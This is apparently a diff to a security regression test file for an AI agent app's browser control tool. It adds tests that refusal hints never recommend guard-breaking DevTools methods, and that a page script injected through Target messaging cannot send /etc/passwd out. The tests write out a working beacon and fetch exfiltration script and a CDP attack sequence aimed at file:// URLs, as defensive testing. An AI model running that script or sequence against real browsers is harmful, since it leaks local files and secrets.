@@ -1,8 +1,10 @@
 import { existsSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
 import { homedir, tmpdir } from "node:os";
 import { join } from "node:path";
+import { Writable } from "node:stream";
 import { chromium } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { ConfigError } from "../../src/config.js";
 import { makeAgentApp, type AgentApp } from "../fixtures/agent-harness.js";
 import {
   browserPageUrls,
@@ -17,7 +19,14 @@ import {
   type ChromiumProcess,
 } from "../fixtures/browser.js";
 import { startFakeModel, type FakeModelServer, type RecordedRequest } from "../fixtures/fake-model.js";
-import { DOWNLOAD_CONTENT, DOWNLOAD_FILENAME, startPagesServer, type PagesServer } from "../fixtures/pages-server.js";
+import {
+  DOWNLOAD_CONTENT,
+  DOWNLOAD_FILENAME,
+  startPagesServer,
+  startRequestRecorder,
+  type PagesServer,
+  type RequestRecorder,
+} from "../fixtures/pages-server.js";
 import { makeTestApp, tempDir, type TestApp } from "../fixtures/test-app.js";
 
 /** The first line of /etc/passwd on any Linux: if it ever comes back, the browser read the server's disk. */
@@ -25,6 +34,8 @@ const PASSWD_LINE = "root:x:0:0";
 const PASSWD_URL = "file:///etc/passwd";
 /** After an attack that should have no effect, how long to give a download or a popup to show up anyway. */
 const ABSENCE_SETTLE_MS = 1_500;
+/** How long a tab made by Target.createTarget takes to settle on its first document. */
+const NEW_TAB_SETTLE_MS = 400;
 
 type Problem = {
   status: number;
@@ -111,6 +122,31 @@ async function expectRefused(res: Response, method: string): Promise<void> {
   expect(problem.errors[0]?.location).toBe("body.method");
   expect(problem.errors[0]?.message).toContain(method);
   expect(problem.hint).toContain("browser.cdp_allow");
+}
+
+/** The methods that get around the browser's guards: a refusal must never suggest allowing them. */
+const GUARD_BREAKING = [
+  "Target.attachToTarget",
+  "Target.sendMessageToTarget",
+  "Target.attachToBrowserTarget",
+  "Target.exposeDevToolsProtocol",
+  "Target.setAutoAttach",
+  "Browser.setDownloadBehavior",
+];
+
+/** Keeps the app's pino lines, to read what it logged. */
+class LogSink extends Writable {
+  text = "";
+  override _write(chunk: Buffer | string, _encoding: BufferEncoding, done: (error?: Error | null) => void): void {
+    this.text += chunk.toString();
+    done();
+  }
+  lines(): Array<{ level: number; msg: string; [key: string]: unknown }> {
+    return this.text
+      .split("\n")
+      .filter((line) => line.trim() !== "")
+      .map((line) => JSON.parse(line) as { level: number; msg: string });
+  }
 }
 
 /** `{"a":{"a":{}}}` nested `depth` levels, as JSON text: serializing that deep an object overflows the test's stack. */
@@ -262,6 +298,27 @@ describe("browser/cdp attacks with the default allowlist", () => {
     expect(fine.status).toBe(200);
   });
 
+  it("never suggests allowing a method that gets around the guards, nor a Target.* or Browser.* wildcard", async () => {
+    for (const method of GUARD_BREAKING) {
+      const res = await cdp(t, id, method, {});
+      const problem = (await res.clone().json()) as Problem;
+      await expectRefused(res, method);
+      expect(problem.hint, method).toContain(`${method} is refused because it would get around the browser's guards`);
+      expect(problem.hint, method).toContain("allowing it in browser.cdp_allow voids them");
+      expect(problem.hint, method).not.toContain(`adding "${method}"`);
+      expect(problem.hint, method).not.toMatch(/"(Target|Browser)\.\*"/);
+    }
+    // A method that cannot get around them may be suggested, but not its domain's wildcard.
+    for (const method of ["Target.createTarget", "Browser.getVersion"]) {
+      const problem = (await (await cdp(t, id, method, {})).json()) as Problem;
+      expect(problem.hint, method).toContain(`adding "${method}" to browser.cdp_allow`);
+      expect(problem.hint, method).not.toMatch(/"(Target|Browser)\.\*"/);
+    }
+    // A domain with no such method keeps its wildcard in the hint.
+    const storage = (await (await cdp(t, id, "Storage.getCookies", {})).json()) as Problem;
+    expect(storage.hint).toContain(`adding "Storage.getCookies" (or "Storage.*")`);
+  });
+
   it("still runs what a page agent needs", async () => {
     await navigate(t, id, pages.url("localhost", "/plain"));
     for (const [method, params] of [
@@ -353,6 +410,131 @@ describe("the operator's browser.cdp_allow", () => {
     );
     await sleep(ABSENCE_SETTLE_MS);
     expect((await browserPageUrls(t, id)).filter((url) => url.startsWith("file:"))).toEqual([]);
+  });
+});
+
+/**
+ * The page script of the reviewer's attack: once the document has text, send it out every way a page
+ * can — on DOMContentLoaded, on load, and polled every millisecond in case either comes too late.
+ */
+function beaconScript(recorder: RequestRecorder): string {
+  return `(() => {
+    const send = (how) => {
+      const text = document.documentElement ? document.documentElement.innerText : "";
+      if (!text) return false;
+      navigator.sendBeacon(${JSON.stringify(recorder.url("/beacon-"))} + how, text);
+      fetch(${JSON.stringify(recorder.url("/fetch-"))} + how, { method: "POST", body: text, mode: "no-cors" }).catch(() => {});
+      return true;
+    };
+    document.addEventListener("DOMContentLoaded", () => send("dcl"));
+    addEventListener("load", () => send("load"));
+    let polls = 0;
+    const timer = setInterval(() => { if (send("poll") || ++polls > 2000) clearInterval(timer); }, 1);
+  })()`;
+}
+
+/** A 200 answer's `result`, or the test fails showing the problem. */
+async function resultOf<T>(res: Response): Promise<T> {
+  const body = (await res.json()) as CdpAnswer<T> & Problem;
+  expect(res.status, JSON.stringify(body)).toBe(200);
+  return body.result;
+}
+
+/** Everything the recorder got, URL-decoded, so a file's text shows up however it was sent. */
+const recorded = (recorder: RequestRecorder) =>
+  recorder.hits.map((hit) => `${hit.method} ${decodeURIComponent(hit.url)} ${hit.body}`);
+
+describe("with Target.* in browser.cdp_allow (the operator opted in to Target messaging)", () => {
+  const log = new LogSink();
+  /** A secret in a blocked URL: the console and the log must show it masked. */
+  const SECRET = "sk-proj-Zq8Xw3Rt6Yu1Io4Pa7Sd0Fg";
+  let t: TestApp;
+  let pages: PagesServer;
+  let recorder: RequestRecorder;
+  let id: string;
+
+  beforeAll(async () => {
+    recorder = await startRequestRecorder();
+    t = await makeTestApp(
+      { browser: { cdp_allow: ["Target.*"] }, logging: { level: "info" } },
+      { logDestination: log },
+    );
+    pages = await startPagesServer();
+    id = await createSession(t);
+    await navigate(t, id, pages.url("localhost", "/plain"));
+  });
+  afterAll(async () => {
+    await t.close();
+    await pages.close();
+    await recorder.close();
+  });
+
+  /** The reviewer's sequence: a new tab, a session on it, an init script that beacons its text, then `url`. */
+  async function attack(url: string): Promise<string> {
+    const { targetId } = await resultOf<{ targetId: string }>(
+      await cdp(t, id, "Target.createTarget", { url: "about:blank" }),
+    );
+    // A script registered while the new tab still commits its first about:blank is lost about half the
+    // time (Chromium's doing, with or without our guards): waiting makes every run a real attempt.
+    await sleep(NEW_TAB_SETTLE_MS);
+    const { sessionId } = await resultOf<{ sessionId: string }>(
+      await cdp(t, id, "Target.attachToTarget", { targetId, flatten: false }),
+    );
+    let messageId = 0;
+    const send = async (method: string, params: Record<string, unknown> = {}) =>
+      resultOf(
+        await cdp(t, id, "Target.sendMessageToTarget", {
+          sessionId,
+          message: JSON.stringify({ id: ++messageId, method, params }),
+        }),
+      );
+    await send("Page.enable");
+    await send("Page.addScriptToEvaluateOnNewDocument", { source: beaconScript(recorder) });
+    await send("Page.navigate", { url });
+    return targetId;
+  }
+
+  it("warns once at start-up that the file:// and download guarantees no longer hold", () => {
+    const warnings = log.lines().filter((line) => line.msg.includes("get around the browser's guards"));
+    expect(warnings).toHaveLength(1);
+    expect(warnings[0]).toMatchObject({ level: 40, entries: ["Target.*"] });
+    expect(warnings[0]?.msg).toContain("file:// and download guarantees no longer hold");
+  });
+
+  it("never delivers /etc/passwd to a listener, in 5 runs of the reviewer's beacon attack", async () => {
+    // The same sequence on an http page delivers that page's text: the channel works, so silence means something.
+    const control = await attack(pages.url("127.0.0.1", "/plain"));
+    await waitFor(() => recorded(recorder).some((hit) => hit.includes("hello")), "the control page's beacon");
+    await resultOf(await cdp(t, id, "Target.closeTarget", { targetId: control }));
+
+    for (let attempt = 0; attempt < 5; attempt++) {
+      await attack(PASSWD_URL);
+      await sleep(ABSENCE_SETTLE_MS);
+      expect(
+        recorded(recorder).filter((hit) => hit.includes(PASSWD_LINE)),
+        `attempt ${attempt + 1}`,
+      ).toEqual([]);
+    }
+    await waitFor(
+      async () => !(await browserPageUrls(t, id)).some((url) => url.startsWith("file:")),
+      "the file:// tabs to be closed",
+    );
+    await expectPasswdNeverShown(t, id);
+    const console = (await snapshot(t, id)).console.map((entry) => entry.text);
+    expect(console.some((text) => text.includes("blocked file:///etc/passwd"))).toBe(true);
+  });
+
+  it("masks a secret in a blocked URL before cutting it, in the console and in the log", async () => {
+    await attack(`${PASSWD_URL}?token=${SECRET}`);
+    const noted = await waitFor(
+      async () => (await snapshot(t, id)).console.find((entry) => entry.text.includes("?token=")),
+      "the console note of the blocked URL",
+    );
+    expect(noted.text).not.toContain(SECRET);
+    expect(noted.text).toContain("blocked file:///etc/passwd?token=");
+    const logged = log.lines().filter((line) => line.msg === "blocked a forbidden document in the browser");
+    expect(logged.some((line) => String(line.url).startsWith("file:///etc/passwd?token="))).toBe(true);
+    expect(log.text).not.toContain(SECRET);
   });
 });
 
@@ -501,5 +683,24 @@ describe("the browser_cdp tool in an agent run", () => {
     // Both were refused before any browser started for them.
     expect((await snapshot(t, id)).active).toBe(false);
     expect(existsSync(target)).toBe(false);
+  });
+});
+
+describe("browser.downloads beside context.plugins_dir", () => {
+  it("refuses to start when the downloads folder and the plugins folder overlap", async () => {
+    const dir = attackDir("caduceus-plugins-overlap-");
+    for (const pluginsDir of [join(dir, "downloads"), dir, join(dir, "downloads", "engines")]) {
+      const starting = makeTestApp({ browser: { downloads: true }, context: { plugins_dir: pluginsDir } }, { dir });
+      await expect(starting, pluginsDir).rejects.toThrow(ConfigError);
+      await expect(starting, pluginsDir).rejects.toThrow(/browser\.downloads.*context\.plugins_dir/);
+    }
+    // A sibling whose name merely starts the same way is apart; without downloads, any folder is.
+    for (const overrides of [
+      { browser: { downloads: true }, context: { plugins_dir: join(dir, "downloads-plugins") } },
+      { context: { plugins_dir: join(dir, "downloads") } },
+    ]) {
+      const app = await makeTestApp(overrides, { dir });
+      await app.close();
+    }
   });
 });
